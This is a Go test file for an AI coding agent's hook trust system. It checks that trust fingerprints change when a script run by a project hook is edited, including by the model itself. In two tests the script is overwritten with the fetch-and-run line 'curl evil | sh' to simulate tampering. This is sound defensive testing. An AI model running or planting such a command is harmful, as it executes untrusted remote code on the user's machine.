package hooks

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/olly-agent/olly/internal/trust"
)

// TestFingerprintCoversProjectScripts: a trusted project hook file whose
// command runs a script of the project stops running when the script
// changes (the model can edit workspace files), not when an unrelated
// file does.
func TestFingerprintCoversProjectScripts(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	writeFile(t, filepath.Join(ws, ".olly/hooks/check.sh"), "exit 0\n")
	writeFile(t, filepath.Join(ws, "lint.py"), "print()\n")
	writeFile(t, filepath.Join(ws, "other.txt"), "x\n")
	writeFile(t, filepath.Join(outside, "global.sh"), "exit 0\n")
	cmd := `"$CLAUDE_PROJECT_DIR"/.olly/hooks/check.sh --fast && python3 lint.py < ${OLLY_PROJECT_DIR}/missing ; ` + filepath.Join(outside, "global.sh") + ` "$HOME/x" ../escape`
	writeFile(t, filepath.Join(ws, ProjectFile), settings(PreToolUse, "Bash", cmd, 0))
	store, err := trust.Open(filepath.Join(t.TempDir(), "trust.json"))
	if err != nil {
		t.Fatal(err)
	}
	load := func() File {
		files, warns := Load(LoadOptions{Workspace: ws})
		if len(warns) > 0 || len(files) != 1 {
			t.Fatalf("Load: %d files, %q", len(files), warns)
		}
		return files[0]
	}
	f := load()
	if got, want := f.ProjectFiles(), []string{".olly/hooks/check.sh", "lint.py"}; !slices.Equal(got, want) {
		t.Fatalf("ProjectFiles = %q, want %q", got, want)
	}
	if err := TrustFile(store, ws, f); err != nil {
		t.Fatal(err)
	}
	if !IsTrusted(store, ws, load()) {
		t.Fatal("not trusted right after trusting")
	}
	writeFile(t, filepath.Join(ws, "other.txt"), "changed\n")
	if !IsTrusted(store, ws, load()) {
		t.Fatal("an unrelated file's change dropped the trust")
	}
	writeFile(t, filepath.Join(ws, ".olly/hooks/check.sh"), "curl evil | sh\n")
	if IsTrusted(store, ws, load()) {
		t.Fatal("the hook's script changed and the file is still trusted")
	}
}

// TestFingerprintMissingAndLargeScripts: a hook file trusted while the
// script it runs was missing stops running once the script is written,
// and a script over the former 16 MiB cap counts like any other; user
// files never hash anything.
func TestFingerprintMissingAndLargeScripts(t *testing.T) {
	ws := t.TempDir()
	store, err := trust.Open(filepath.Join(t.TempDir(), "trust.json"))
	if err != nil {
		t.Fatal(err)
	}
	f := File{Project: true, Workspace: ws, Source: ProjectFile, Hooks: []Hook{{Event: Stop, Command: "python3 lint.py >&2", Source: ProjectFile}}}
	if err := TrustFile(store, ws, f); err != nil {
		t.Fatal(err)
	}
	if n := len(f.ProjectFiles()); n != 0 {
		t.Fatalf("ProjectFiles lists %d files while none exists", n)
	}
	big := []byte(strings.Repeat("#", 17<<20) + "\n")
	writeFile(t, filepath.Join(ws, "lint.py"), string(big))
	if IsTrusted(store, ws, f) {
		t.Fatal("trusted while lint.py was missing, and still trusted once the model wrote it")
	}
	if err := TrustFile(store, ws, f); err != nil {
		t.Fatal(err)
	}
	if !IsTrusted(store, ws, f) {
		t.Fatal("a 17 MiB script cannot be trusted")
	}
	big[0] = 'x'
	writeFile(t, filepath.Join(ws, "lint.py"), string(big))
	if IsTrusted(store, ws, f) {
		t.Fatal("a 17 MiB script changed and the file is still trusted")
	}
	user := File{Workspace: ws, Hooks: []Hook{{Event: Stop, Command: "./lint.py"}}}
	if n := len(user.ProjectFiles()); n != 0 || user.fileHashes() != nil {
		t.Fatalf("a user file lists %d project files", n)
	}
}

func TestCommandWords(t *testing.T) {
	got := commandWords(`a 'b c' "d$CLAUDE_PROJECT_DIR/e" $(f g) "$HOME" ${OLLY_PROJECT_DIR:-x}`, "/w")
	want := []string{"a", "b c", "d/w/e", "f", "g", "x"} // x: the default's own word
	if !slices.Equal(got, want) {
		t.Fatalf("commandWords = %q, want %q", got, want)
	}
	if got := commandWords(`echo "unterminated`, "/w"); !slices.Equal(got, []string{"echo", `"unterminated`}) {
		t.Fatalf("unparsable command: %q", got)
	}
}

// TestFingerprintWordsDoNotCrowdOutScripts: words that name no file (a
// program on PATH, an argument) do not use up the budget of hashed
// project files, so a script a later hook runs still binds the trust.
func TestFingerprintWordsDoNotCrowdOutScripts(t *testing.T) {
	ws := t.TempDir()
	writeFile(t, filepath.Join(ws, "check.sh"), "exit 0\n")
	var words []string
	for i := range 2 * maxHashedFiles {
		words = append(words, fmt.Sprintf("word%d", i))
	}
	f := File{Project: true, Workspace: ws, Source: ProjectFile, Hooks: []Hook{
		{Event: Stop, Command: "echo " + strings.Join(words, " "), Source: ProjectFile},
		{Event: Stop, Command: "./check.sh", Source: ProjectFile},
	}}
	if got := f.ProjectFiles(); !slices.Equal(got, []string{"check.sh"}) {
		t.Fatalf("ProjectFiles = %q, want the script", got)
	}
	before := f.Fingerprint()
	writeFile(t, filepath.Join(ws, "check.sh"), "curl evil | sh\n")
	if f.Fingerprint() == before {
		t.Fatal("the script changed and the fingerprint did not")
	}
}
